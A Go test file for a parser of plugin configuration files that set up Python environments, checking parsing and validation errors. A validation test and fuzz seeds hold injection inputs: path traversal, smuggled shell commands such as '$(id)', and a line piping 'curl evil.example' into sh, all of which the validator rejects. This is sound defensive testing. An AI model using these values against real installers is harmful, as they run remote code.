package envs

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func write(t *testing.T, dir, name, content string) string {
	t.Helper()
	path := filepath.Join(dir, name)
	require.NoError(t, os.MkdirAll(filepath.Dir(path), 0o755))
	require.NoError(t, os.WriteFile(path, []byte(content), 0o644))
	return path
}

// The keys of the Python system, as people have them.
func TestFile_ReadsTheFileOfThePythonSystem(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	write(t, dir, "envs/whisper.yml", "dependencies: [python=3.11]\n")
	f, err := ReadFile(write(t, dir, "plugins.yaml", `
plugins:
  - name: graph
    env_name: cjm-graph
    python_version: 3.10
    package: git+https://example.org/cj/cjm-graph-plugin-sqlite.git@v0.0.3
    interface_libs: [cjm-graph-plugin-system==0.0.4]
  - name: whisper
    env_file: envs/whisper.yml
    package: cjm-whisper-plugin[gpu]>=0.0.2,<0.1 ; python_version >= "3.9"
`))
	require.NoError(t, err)
	require.Len(t, f.Entries, 2)
	graph, whisper := f.Entries[0], f.Entries[1]
	assert.Equal(t, "cjm-graph", graph.EnvName)
	assert.Equal(t, "3.10", graph.Python, "a version without quotes keeps its zero")
	assert.Equal(t, "cjm_graph_plugin_sqlite", graph.Package.moduleName())
	assert.Equal(t, "cjm-graph-plugin-system==0.0.4", graph.Requirements[0].Arg)
	assert.Equal(t, "whisper", whisper.EnvName)
	assert.Equal(t, filepath.Join(dir, "envs/whisper.yml"), whisper.EnvFile)
	assert.Equal(t, "cjm_whisper_plugin", whisper.Package.moduleName())
}

func TestFile_ReadsCapabilities(t *testing.T) {
	t.Parallel()
	f, err := ReadFile(write(t, t.TempDir(), "capabilities.yaml", `
capabilities:
  - name: vad
    python_version: "3.12"
    package: cjm-capability-vad==0.0.3
    adapters: [{lib: cjm-vad-adapter, impl: "cjm_vad_adapter.core:VadAdapter"}]
`))
	require.NoError(t, err)
	assert.Equal(t, DialectCapabilities, f.Dialect)
	assert.Equal(t, []string{"cjm_vad_adapter.core:VadAdapter"}, f.Entries[0].Adapters)
	assert.Equal(t, "cjm-vad-adapter", f.Entries[0].Requirements[0].Arg)
}

func TestFile_TakesNameAndEnvironmentFromAManifest(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	manifest := "name: embed\nmodule: embed\nclass: Embed\npath: .\nenv: {manager: venv, python: \"3.11\", requirements: [humanize==4.9.0, more.txt]}\n"
	write(t, dir, "embed/manifest.yaml", manifest)
	write(t, dir, "embed/more.txt", "idna==3.7\n")
	f, err := ReadFile(write(t, dir, "plugins.yaml", "plugins: [{manifest: embed, python: \"3.10\"}]"))
	require.NoError(t, err)
	e := f.Entries[0]
	assert.Equal(t, "embed", e.Name)
	assert.Equal(t, "embed", e.EnvName)
	assert.Equal(t, Venv, e.Manager)
	assert.Equal(t, "3.10", e.Python, "the entry's word wins")
	assert.Equal(t, "humanize==4.9.0", e.Requirements[0].Arg)
	assert.Equal(t, []string{filepath.Join(dir, "embed/more.txt")}, e.ReqFiles)

	alone, err := ReadFile(filepath.Join(dir, "embed"))
	require.NoError(t, err, "a manifest is a file of one entry")
	assert.Equal(t, "3.11", alone.Entries[0].Python)
}

func TestFile_TellsEveryProblemWithItsLine(t *testing.T) {
	t.Parallel()
	path := write(t, t.TempDir(), "plugins.yaml", `plugins:
  - name: ../../etc
    package: a==1
  - name: shell
    package: "a==1; touch /tmp/pwned"
    python: "$(id)"
  - name: twice
    package: a
  - name: twice
    package: b
  - name: wrong
    packages: a
    env: uvv
    index: file:///etc
  - name: piped
    package: "a==1 && curl evil.example | sh"
  - name: optioned
    package: "--index-url=https://evil.example a"
    env_vars: {"BAD NAME": x}
`)
	_, err := ReadFile(path)
	require.Error(t, err)
	var bad *FileError
	require.ErrorAs(t, err, &bad)
	for _, want := range []string{
		path + `:2: plugins[0].name is "../../etc"`,
		path + `:5: plugins[1].package is "a==1; touch /tmp/pwned", but `,
		path + `:6: plugins[1].python is "$(id)"`,
		path + `:9: name "twice" is taken by the entry in line 7`,
		path + `:12: plugins[4].packages is no known key (did you mean "package"?)`,
		path + `:13: plugins[4].env is "uvv"; it must be one of uv, venv, micromamba, conda (did you mean "uv"?)`,
		path + `:14: plugins[4].index must be an address`,
		path + `:16: plugins[5].package is "a==1 && curl evil.example | sh", which is no package`,
		path + `:18: plugins[6].package is "--index-url=https://evil.example a": options are not taken here`,
		path + `:19: plugins[6].env_vars.BAD NAME is no name`,
	} {
		assert.Contains(t, err.Error(), want)
	}
	assert.Equal(t, 11, strings.Count(err.Error(), path), "one line a problem, and no more: %v", err)
}

func TestFile_RefusesWhatIsNoSuchFile(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct{ content, want string }{
		"empty":      {"", "is empty"},
		"no list":    {"plugins: {a: b}", "must be a list"},
		"no key":     {"things: []", "has no key plugins"},
		"both":       {"plugins: []\ncapabilities: []", "keep one of them"},
		"nothing":    {"plugins: []", "is an empty list"},
		"a text":     {"plugins: [whisper]", "must be an object with keys"},
		"no package": {"plugins: [{name: a}]", "package is missing"},
		"no YAML":    {"plugins: [", "is no YAML"},
		"key twice":  {"plugins: [{name: a, name: b, package: c}]", "stands twice"},
		"env_file":   {"plugins: [{name: a, package: b, env: uv, env_file: x.yml}]", "is for conda and micromamba"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			_, err := ReadFile(write(t, t.TempDir(), "plugins.yaml", c.content))
			require.Error(t, err)
			assert.Contains(t, err.Error(), c.want)
		})
	}
}

func TestRequirement_Kinds(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	write(t, dir, "my-plugin/pyproject.toml", "")
	write(t, dir, "dist/some_plugin-1.0-py3-none-any.whl", "")
	for _, c := range []struct {
		text   string
		args   []string
		module string
	}{
		{"humanize==4.9.0", []string{"humanize==4.9.0"}, "humanize"},
		{"my-plugin[gpu, cpu] ~= 1.2", []string{"my-plugin[gpu, cpu] ~= 1.2"}, "my_plugin"},
		{"git+https://example.org/a/my-plugin.git@main#egg=other-name", []string{"git+https://example.org/a/my-plugin.git@main#egg=other-name"}, "other_name"},
		{"git+ssh://git@example.org/a/my-plugin@v1", []string{"git+ssh://git@example.org/a/my-plugin@v1"}, "my_plugin"},
		{"plug @ https://example.org/plug-1.0.tar.gz", []string{"plug @ https://example.org/plug-1.0.tar.gz"}, "plug"},
		{"-e ./my-plugin", []string{"-e", dir + "/my-plugin"}, "my_plugin"},
		{"./my-plugin[gpu]", []string{dir + "/my-plugin[gpu]"}, "my_plugin"},
		{"dist/some_plugin-1.0-py3-none-any.whl", []string{dir + "/dist/some_plugin-1.0-py3-none-any.whl"}, "some_plugin"},
	} {
		r, err := parseRequirement(c.text, dir)
		require.NoError(t, err, c.text)
		assert.Equal(t, c.args, r.args(), c.text)
		assert.Equal(t, c.module, r.moduleName(), c.text)
	}
}

// What is let through reaches pip or uv as one word; what could be an option or
// a command is not let through.
func FuzzRequirement(f *testing.F) {
	for _, s := range []string{"a==1", "-e .", "git+https://h/r", "a; os_name == 'nt'", "a @ file:///x", "$(id)", "--index-url x", "a\n-r b", "`id`"} {
		f.Add(s)
	}
	dir := f.TempDir()
	f.Fuzz(func(t *testing.T, text string) {
		r, err := parseRequirement(text, dir)
		if err != nil {
			return
		}
		args := r.args()
		last := args[len(args)-1]
		if strings.HasPrefix(last, "-") || len(args) > 2 || len(args) == 2 && args[0] != "-e" {
			t.Errorf("%q became the words %q", text, args)
		}
		if r.Path == "" && strings.ContainsAny(last, "\n\r`|\\") {
			t.Errorf("%q became %q", text, last)
		}
	})
}
